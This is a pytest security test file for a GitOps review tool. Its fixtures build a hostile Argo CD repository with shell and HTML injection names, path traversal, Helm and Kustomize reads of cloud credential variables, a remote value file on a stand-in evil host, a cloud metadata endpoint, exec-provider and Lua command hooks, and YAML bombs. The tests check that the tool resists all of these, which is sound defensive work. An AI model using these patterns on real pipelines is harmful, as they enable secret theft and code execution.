"""A hostile pull request: judged like any other, it runs nothing, reads nothing and reaches nobody outside itself."""

from __future__ import annotations

import base64
import json
import os
import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from runs import Outcome, commit, gitops, write

from pytest_gitops.processes import confine

pytestmark = pytest.mark.engine

URL = "https://git.example.com/trap.git"

CONFIG = f"version: 1\nrepository: {{urls: [{URL}]}}\n"

POLICY = """\
package main

import rego.v1

deny contains msg if {{
	{call}
	msg := "asked"
}}
"""

ASKING = {
    "http": 'http.send({"method": "GET", "url": "http://127.0.0.1/"})',
    "environment": "opa.runtime().env.AWS_SECRET_ACCESS_KEY",
}
"""What a policy calls to ask others, by its file's name."""

SECRET = "tr0ub4dor-and-3"
"""What is in Secrets of the repository."""

CANARY = "canary-0f6a2c"
"""What is outside the repository: in the user's environment, and in a file beside the repository."""

ENVIRONMENT = (
    "AWS_SECRET_ACCESS_KEY",
    "GITHUB_TOKEN",
    "ARGOCD_AUTH_TOKEN",
    "HELM_KUBETOKEN",
    "KUSTOMIZE_CANARY",
)

ESCAPES = "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J"

NAMES = {
    "shell": "$(touch pwned); `touch pwned` && touch pwned #",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "markdown": "**bold** [click](javascript:alert(1)) </details> | a | b |\n# title\n@everyone",
    "ansi": ESCAPES,
    "workflow": "x\n::error file=pwned::pwned\n##vso[task.setvariable variable=a]b",
    "long": "a" * 5000,
    "traversal": "../../../etc/passwd",
}

CONFIG_MAP = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {greeting: hello}\n"

CHART = "apiVersion: v2\nname: chart\nversion: 1.0.0\n"

BOMB = "a0: &a0 {x: lol}\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
)
"""A billion laughs."""


def application(
    name: str, path: str = "plain", *, url: str = URL, more: str = "", namespace: str = ""
) -> str:
    """An Application whose lines are: 1 apiVersion, 3 metadata, 6 source, 7 repoURL, 9 path, 10 what is `more`."""
    return (
        "apiVersion: argoproj.io/v1alpha1\nkind: Application\n"
        f"metadata: {{name: {json.dumps(name)}, namespace: argocd,"
        " finalizers: [resources-finalizer.argocd.argoproj.io]}\nspec:\n  project: grid\n  source:\n"
        f"    repoURL: {json.dumps(url)}\n    targetRevision: HEAD\n    path: {json.dumps(path)}\n{more}"
        f"  destination: {{server: https://kubernetes.default.svc, namespace: {json.dumps(namespace or name)}}}\n"
        "  syncPolicy: {automated: {}, syncOptions: [CreateNamespace=true]}\n"
    )


def helm(setting: str) -> str:
    return f"    helm: {{{setting}}}\n"


def failing(expression: str) -> dict[str, str]:
    """A chart that fails with what `expression` says."""
    return {"Chart.yaml": CHART, "templates/a.yaml": f'{{{{ fail (printf "saw %s" {expression}) }}}}\n'}


def below(folder: str, files: Mapping[str, str]) -> dict[str, str]:
    return {f"{folder}/{path}": text for path, text in files.items()}


PROJECT = """\
apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata: {name: grid, namespace: argocd}
spec:
  sourceRepos: ["*"]
  destinations: [{server: "*", namespace: "*"}]
  clusterResourceWhitelist: [{group: "*", kind: "*"}]
"""


SET = f"""\
apiVersion: argoproj.io/v1alpha1
kind: {{{{ print "Application" "Set" }}}}
metadata: {{name: hidden-set, namespace: argocd}}
spec:
  goTemplate: true
  generators: [list: {{elements: [{{name: of-hidden-set}}]}}]
  template:
    metadata: {{name: "{{{{ "{{{{.name}}}}" }}}}"}}
    spec:
      project: grid
      source: {{repoURL: {URL}, targetRevision: HEAD, path: plain}}
      destination: {{server: https://kubernetes.default.svc, namespace: of-hidden-set}}
      syncPolicy: {{automated: {{}}, syncOptions: [CreateNamespace=true]}}
"""
"""Nothing of the repository has its kind's name, as where a chart from elsewhere renders one."""


def traps(outside: Path) -> dict[str, str]:
    """The repository. `outside` is a folder that has a file `canary`, and in which nothing may appear."""
    canary, up = outside / "canary", "../" * 30
    touch = {name: json.dumps(f"touch {outside}/{name}") for name in ("lua", "cluster")}
    return {
        "pytest-gitops.yaml": CONFIG + "policy: {folders: [rules]}\n",
        **{f"rules/{name}.rego": POLICY.format(call=call) for name, call in ASKING.items()},
        "project.yaml": PROJECT,
        "plain/settings.yaml": CONFIG_MAP,
        "apps/good.yaml": application("good"),
        **{f"names/{kind}.yaml": application(name, namespace="names") for kind, name in NAMES.items()},
        f"apps/{ESCAPES}.yaml": application("odd-file"),
        # what leads out of the repository
        "apps/path-up.yaml": application("path-up", f"{up}etc"),
        "apps/path-absolute.yaml": application("path-absolute", "/etc"),
        "apps/values-up.yaml": application("values-up", "chart", more=helm(f"valueFiles: ['{up}{canary}']")),
        "apps/values-absolute.yaml": application("values-absolute", "chart", more=helm(f"valueFiles: ['{canary}']")),
        "apps/values-optional.yaml": application(
            "values-optional", "chart", more=helm(f"ignoreMissingValueFiles: true, valueFiles: ['{up}{canary}']")
        ),
        "apps/file-parameter.yaml": application(
            "file-parameter", "chart", more=helm(f"fileParameters: [{{name: x, path: '{up}{canary}'}}]")
        ),
        "chart/Chart.yaml": CHART,
        "chart/templates/settings.yaml": (
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: chart}\ndata:\n"
            f'  values: {{{{ .Values | toJson | quote }}}}\n  file: {{{{ .Files.Get "{up}{canary}" | quote }}}}\n'
        ),
        "apps/kustomize-up.yaml": application("kustomize-up", "kustomize-up"),
        "kustomize-up/kustomization.yaml": f"configMapGenerator:\n- {{name: x, files: ['{up}{canary}']}}\n",
        "apps/jsonnet.yaml": application("jsonnet", "jsonnet"),
        "jsonnet/main.jsonnet": (
            "{apiVersion: 'v1', kind: 'ConfigMap', metadata: {name: 'x'}, data: {x: importstr '" + str(canary) + "'}}\n"
        ),
        # what asks for the environment
        "apps/environment.yaml": application("environment", "environment"),
        **below("environment", failing('(env "AWS_SECRET_ACCESS_KEY")')),
        "apps/expanded.yaml": application("expanded", "expanded"),
        **below("expanded", failing('(expandenv "$GITHUB_TOKEN")')),
        "apps/build-environment.yaml": application(
            "build-environment", "chart", more=helm("parameters: [{name: x, value: 'saw $AWS_SECRET_ACCESS_KEY'}]")
        ),
        "apps/kustomize-environment.yaml": application("kustomize-environment", "kustomize-environment"),
        # kustomize takes a name without a value from its own environment.
        "kustomize-environment/kustomization.yaml": "configMapGenerator:\n- {name: x, envs: [names.env]}\n",
        "kustomize-environment/names.env": "".join(f"{name}\n" for name in ENVIRONMENT),
        # whom it would reach
        "apps/values-remote.yaml": application(
            "values-remote", "chart", more=helm("valueFiles: ['https://evil.example.com/x']")
        ),
        "apps/kustomize-remote.yaml": application("kustomize-remote", "kustomize-remote"),
        "kustomize-remote/kustomization.yaml": "resources: ['https://base.example.net/x/y.git//z?ref=main']\n",
        "apps/kustomize-file.yaml": application("kustomize-file", "kustomize-file"),
        "kustomize-file/kustomization.yaml": f"resources: ['file://{outside}/repository//x?ref=main']\n",
        "apps/metadata-service.yaml": application("metadata-service", "metadata-service"),
        "metadata-service/Chart.yaml": CHART
        + "dependencies: [{name: creds, version: 1.0.0, repository: 'http://169.254.169.254/latest'}]\n",
        "apps/loopback.yaml": application("loopback", "x", url="http://127.0.0.1:2375/containers.git"),
        "apps/file-url.yaml": application("file-url", "x", url=f"file://{outside}/repository"),
        "apps/local-path.yaml": application("local-path", "x", url="/etc"),
        # what it would run
        "apps/plugin.yaml": application("plugin", more="    plugin: {name: evil}\n"),
        "argocd/argocd-cm.yaml": (
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: argocd-cm, namespace: argocd}\ndata:\n"
            f"  configManagementPlugins: '[{{name: evil, generate: {{command: [touch, {outside}/plugin]}}}}]'\n"
            "  kustomize.buildOptions: --load-restrictor LoadRestrictionsNone --enable-alpha-plugins --enable-exec\n"
            "  kustomize.path.evil: ./evil.sh\n"
            "  resource.customizations.useOpenLibs.batch_CronJob: 'true'\n"
            f"  resource.customizations.health.batch_CronJob: os.execute({touch['lua']}); return {{status='Healthy'}}\n"
            "  resource.customizations.health.scheduling.k8s.io_PriorityClass: while true do end\n"
        ),
        "apps/lua.yaml": application("lua", "lua"),
        "lua/job.yaml": (
            "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: lua}\nspec: {schedule: '0 0 1 1 *', jobTemplate: "
            "{spec: {template: {spec: {restartPolicy: Never, containers: [{name: a, image: 'a.example.com/a:1'}]}}}}}\n"
        ),
        "apps/endless-lua.yaml": application("endless-lua", "endless-lua"),
        "endless-lua/class.yaml": (
            "apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata: {name: endless}\nvalue: 1\n"
        ),
        "apps/own-kustomize.yaml": application("own-kustomize", "own-kustomize", more="    kustomize: {version: evil}\n"),
        "own-kustomize/kustomization.yaml": "resources: []\n",
        "own-kustomize/evil.sh": f"#!/bin/sh\ntouch {outside}/kustomize\n",
        "apps/exec-cluster.yaml": application("exec-cluster", "exec-cluster", namespace="argocd"),
        "exec-cluster/secret.yaml": (
            "apiVersion: v1\nkind: Secret\nmetadata: {name: a-cluster, labels: {argocd.argoproj.io/secret-type: cluster}}\n"
            "stringData:\n  name: a\n  server: https://a-cluster.example.com\n"
            '  config: \'{"execProviderConfig": {"command": "/bin/sh", "args": ["-c", ' + touch["cluster"] + "],"
            ' "apiVersion": "client.authentication.k8s.io/v1beta1"}, "tlsClientConfig": {"insecure": true}}\'\n'
        ),
        # Its object has the name of another's: on one cluster they would take turns.
        "apps/on-cluster.yaml": application("on-cluster", namespace="good").replace(
            "https://kubernetes.default.svc", "https://a-cluster.example.com"
        ),
        # what no file speaks of
        "apps/hidden.yaml": application("hidden", "hidden", namespace="argocd"),
        "hidden/Chart.yaml": CHART,
        "hidden/templates/set.yaml": SET,
        # what is too much
        "apps/alias-bomb.yaml": application("alias-bomb") + BOMB,
        "apps/rendered-bomb.yaml": application("rendered-bomb", "bomb"),
        "bomb/bomb.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n" + BOMB,
        "documents/ten-thousand.yaml": "---\n".join([CONFIG_MAP] * 10_000 + [application("after-ten-thousand")]),
        # secrets
        "apps/secret.yaml": application("secret", "secret"),
        "secret/secret.yaml": (
            f"apiVersion: v1\nkind: Secret\nmetadata: {{name: login}}\nstringData: {{user: {SECRET}}}\n"
            f"data: {{other: {base64.b64encode(SECRET.encode()).decode()}}}\n"
        ),
        "apps/bad-secret.yaml": application("bad-secret", "bad-secret"),
        "bad-secret/secret.yaml": f"apiVersion: v1\nkind: Secret\nmetadata: {{name: bad}}\ndata: {{user: {SECRET}}}\n",
        "apps/typed-secret.yaml": application("typed-secret", "typed-secret"),
        "typed-secret/secret.yaml": (
            "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/tls\nmetadata: {name: typed}\n"
            f"stringData: {{tls.crt: {SECRET}}}\n"
        ),
        "apps/credentials.yaml": application("credentials", "x", url=f"https://me:{SECRET}@git.evil.invalid/x.git"),
    }  # fmt: skip


STAGES = {
    "good": None,
    "odd-file": None,
    "after-ten-thousand": None,
    "build-environment": None,
    "kustomize-environment": None,
    "secret": None,
    "exec-cluster": None,
    "on-cluster": None,
    "hidden": None,
    "of-hidden-set": None,
    "path-up": ("source", "missing-path"),
    "path-absolute": ("source", "missing-path"),
    "values-up": ("source", "missing-value-file"),
    "values-absolute": ("source", "missing-value-file"),
    "loopback": ("source", "host-refused"),
    "file-url": ("source", "repository-url"),
    "local-path": ("source", "repository-url"),
    "values-optional": ("render", "render-failed"),
    "file-parameter": ("render", "render-failed"),
    "kustomize-up": ("render", "render-failed"),
    "kustomize-file": ("render", "render-failed"),
    "jsonnet": ("render", "render-failed"),
    "environment": ("render", "render-failed"),
    "expanded": ("render", "render-failed"),
    "plugin": ("render", "render-failed"),
    "own-kustomize": ("render", "render-failed"),
    "rendered-bomb": ("render", "render-failed"),
    "values-remote": ("render", "host-unreachable"),
    "kustomize-remote": ("render", "host-unreachable"),
    "metadata-service": ("render", "host-refused"),
    "credentials": ("render", "host-unreachable"),
    "lua": ("converge", "comparison-error"),
    "endless-lua": ("converge", "comparison-error"),
    "bad-secret": ("admit", "invalid-object"),
    "typed-secret": ("admit", "invalid-object"),
}
"""What becomes of each: where it fails, and its code; None where it is as good as any."""


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("outside")
    commit(write(folder / "repository", {"x/kustomization.yaml": f"namePrefix: {CANARY}\n"}))
    return write(folder, {"canary": f"{CANARY}\n"})


@pytest.fixture(scope="module")
def trap(toolbox: dict[str, Path], outside: Path, tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    folder = write(tmp_path_factory.mktemp("trap") / "trap", traps(outside))
    (folder / "own-kustomize" / "evil.sh").chmod(0o755)
    env = {**dict.fromkeys(ENVIRONMENT, CANARY), "PYTHONUTF8": "1"}
    return gitops(commit(folder), "--gitops-stages", "review,converge", environ=env)


def everything(run: Outcome) -> dict[str, str]:
    """All that a run says: its output, and its reports by their names."""
    files = (run.folder / "gitops-report").iterdir()
    return {"output": run.output, **{f.name: f.read_text("utf-8") for f in files}}


def first_failure(run: Outcome, name: str) -> tuple[str, str] | None:
    stages = run.applications[f"argocd/{name}"]["stages"]
    return next(((s["stage"], s["code"]) for s in stages if s["outcome"] in {"failed", "error"}), None)


@pytest.mark.parametrize("name", STAGES)
def test_each_is_judged_for_itself(trap: Outcome, name: str) -> None:
    assert first_failure(trap, name) == STAGES[name], trap.output


def test_nothing_is_lost(trap: Outcome) -> None:
    assert trap.status == 1
    assert trap.applications.keys() == {f"argocd/{n}" for n in STAGES}
    assert (None, "yaml-invalid", "error", "apps/alias-bomb.yaml", 18) in trap.findings
    assert not trap.report or trap.report["run"]["error"] is None


@pytest.mark.parametrize("kind", NAMES)
def test_a_name_that_is_none_is_a_problem_of_its_file(trap: Outcome, kind: str) -> None:
    assert (None, "invalid-name", "error", f"names/{kind}.yaml", 3) in trap.findings


def test_an_application_set_is_followed_although_no_file_speaks_of_one(trap: Outcome) -> None:
    assert trap.applications["argocd/of-hidden-set"]["parent"] == "argocd/hidden-set"


def test_nothing_was_executed(trap: Outcome, outside: Path) -> None:
    assert {p.name for p in outside.iterdir()} == {"canary", "repository"}
    assert not list(trap.folder.rglob("pwned"))


def test_settings_that_would_run_programs_are_told(trap: Outcome) -> None:
    assert trap.report
    told = [f for f in trap.report["findings"] if f["rule"] == "setting-not-applied"]
    assert {f["line"] for f in told} == {6, 7, 8}
    flags = {"--enable-exec", "--enable-alpha-plugins", "--load-restrictor"} - (
        {"--load-restrictor"} if confine.version() else set()
    )
    assert {word for f in told for word in flags | {"--load-restrictor"} if word in f["message"]} == flags


def test_nothing_of_the_environment_or_of_other_files_is_told(trap: Outcome) -> None:
    assert {name for name, text in everything(trap).items() if CANARY in text} == set()


def test_no_secret_is_told(trap: Outcome) -> None:
    spellings = (SECRET, base64.b64encode(SECRET.encode()).decode().rstrip("="))
    assert {name for name, text in everything(trap).items() for s in spellings if s in text} == set()


def test_only_what_was_not_reached_is_named(trap: Outcome) -> None:
    assert trap.report
    hosts = {(h["host"], h["reason"]) for h in trap.report["run"]["hosts"]}
    assert hosts == {
        ("evil.example.com", "unreachable"),
        ("base.example.net", "unreachable"),
        ("169.254.169.254", "refused"),
        ("git.evil.invalid", "unreachable"),
    }
    for host, name, what in (
        ("evil.example.com", "values-remote", "could not be reached"),
        ("base.example.net", "kustomize-remote", "could not be reached"),
        ("169.254.169.254", "metadata-service", "was refused"),
    ):
        assert f"{host} {what}" in trap.stage(f"argocd/{name}", "render")["message"]


def test_no_text_moves_the_cursor_or_commands_a_log_reader(trap: Outcome) -> None:
    controls = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
    assert {name: found for name, text in everything(trap).items() if (found := controls.search(text))} == {}
    assert not re.search(r"^\s*::|##vso\[", trap.output, re.MULTILINE)


def test_no_path_of_the_run_is_told(trap: Outcome) -> None:
    told = {name for name, text in everything(trap).items() if re.search(r"/pytest-gitops-\d{14}", text)}
    assert told == set()


@pytest.mark.parametrize("name", ASKING)
def test_a_policy_of_the_pull_request_asks_nobody(trap: Outcome, name: str) -> None:
    assert f"rules/{name}.rego:6: the policy does not compile" in trap.output
    assert f"rules/{name}.rego::policy-not-compiling:6" in trap.output
    assert "Traceback" not in trap.output


# ---------------------------------------------------------------------- too much


RENDERING = ("--gitops-cluster=none", "--gitops-stages=source,render")

FLOOD = {
    "pytest-gitops.yaml": CONFIG,
    "project.yaml": PROJECT,
    "plain/settings.yaml": CONFIG_MAP,
    "apps/good.yaml": application("good"),
    "apps/deep.yaml": application("deep", "deep"),
    "deep/Chart.yaml": CHART,
    "deep/templates/a.yaml": '{{ define "a" }}{{ include "a" . }}{{ end }}{{ include "a" . }}\n',
    "apps/large.yaml": application("large", "large"),
    "large/Chart.yaml": CHART,
    # In JSON each of these characters is six, so it is read in a sixth of the time.
    "large/templates/a.yaml": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: large}\ndata:\n  x: |\n"
        '{{ range until 18 }}    {{ repeat 1000000 "<" }}\n{{ end }}'
    ),
}


ENDLESS = {
    "pytest-gitops.yaml": CONFIG,
    "project.yaml": PROJECT,
    "plain/settings.yaml": CONFIG_MAP,
    "apps/good.yaml": application("good"),
    "apps/endless.yaml": application("endless", "endless"),
    "endless/Chart.yaml": CHART,
    "endless/templates/a.yaml": "{{ range until 99999 }}" * 3 + "{{ end }}" * 3,
}


@pytest.fixture(scope="module")
def flood(toolbox: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    return gitops(commit(write(tmp_path_factory.mktemp("flood") / "flood", FLOOD)), *RENDERING)


@pytest.fixture(scope="module")
def endless(toolbox: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    folder = commit(write(tmp_path_factory.mktemp("endless") / "endless", ENDLESS))
    return gitops(folder, *RENDERING, "--gitops-timeout=3")


def fails_alone(run: Outcome, name: str, said: str) -> None:
    stage = run.stage(f"argocd/{name}", "render")
    assert (stage["outcome"], stage["code"]) == ("failed", "render-failed"), run.output
    assert said in stage["message"]
    assert len(stage["message"]) < 20_000
    assert run.stage("argocd/good", "render")["outcome"] == "passed"


@pytest.mark.parametrize(
    ("name", "said"),
    [("deep", "rendering template has a nested reference name"), ("large", "larger than max (")],
)
def test_a_template_that_is_too_much_fails_alone(flood: Outcome, name: str, said: str) -> None:
    fails_alone(flood, name, said)


def test_a_template_without_end_is_stopped_and_fails_alone(endless: Outcome) -> None:
    fails_alone(endless, "endless", "timeout after 3s")


# ---------------------------------------------------------------------- links


def test_links_out_of_the_repository_are_never_followed(
    toolbox: dict[str, Path], outside: Path, tmp_path: Path
) -> None:
    folder = write(
        tmp_path / "grid",
        {
            "pytest-gitops.yaml": CONFIG,
            "project.yaml": PROJECT,
            "plain/settings.yaml": CONFIG_MAP,
            "apps/good.yaml": application("good"),
            "apps/values.yaml": application("values", "chart", more=helm("valueFiles: [linked.yaml]")),
            "chart/Chart.yaml": CHART,
            "chart/templates/a.yaml": '{{ fail (toJson .Values) }}{{ .Files.Get "linked.yaml" }}\n',
            "apps/folder.yaml": application("folder", "linked"),
        },
    )
    (folder / "chart" / "linked.yaml").symlink_to(outside / "canary")
    (folder / "apps" / "linked.yaml").symlink_to(outside / "canary")
    (folder / "linked").symlink_to(outside)
    (folder / "inside.yaml").symlink_to("apps/good.yaml")
    run = gitops(commit(folder), *RENDERING)
    assert run.status == 1
    for name in ("good", "values", "folder"):
        # As in production: Argo CD renders nothing of a repository with such a link.
        stage = run.stage(f"argocd/{name}", "render")
        assert (stage["outcome"], stage["code"]) == ("failed", "render-failed")
        assert "out-of-bounds symlink" in stage["message"]
    assert {name for name, text in everything(run).items() if CANARY in text} == set()


@pytest.mark.parametrize(
    "section", ["charts: [{url: https://charts.example.com, path: vendored}]", "crds: [vendored]"]
)
def test_folders_of_the_configuration_that_are_links_have_nothing_in_them(
    toolbox: dict[str, Path], outside: Path, tmp_path: Path, section: str
) -> None:
    folder = write(
        tmp_path / "grid",
        {"pytest-gitops.yaml": f"{CONFIG}{section}\n", "apps/good.yaml": application("good")},
    )
    (folder / "vendored").symlink_to(outside)
    run = gitops(commit(folder), "--gitops-cluster=none", "--gitops-stages=admit")
    assert run.status == 4, run.output
    assert "pytest-gitops.yaml" in run.output
    assert CANARY not in run.output


def test_a_configuration_that_is_a_link_out_is_not_read(tmp_path: Path, outside: Path) -> None:
    folder = write(tmp_path / "grid", {"apps/good.yaml": application("good")})
    (folder / "pytest-gitops.yaml").symlink_to(outside / "canary")
    run = gitops(commit(folder))
    assert run.status == 4, run.output
    assert "pytest-gitops.yaml: is a link that leads out of the repository" in run.output
    assert CANARY not in run.output


def test_no_environment_of_ours_is_in_the_way() -> None:
    assert not set(ENVIRONMENT) & set(os.environ)
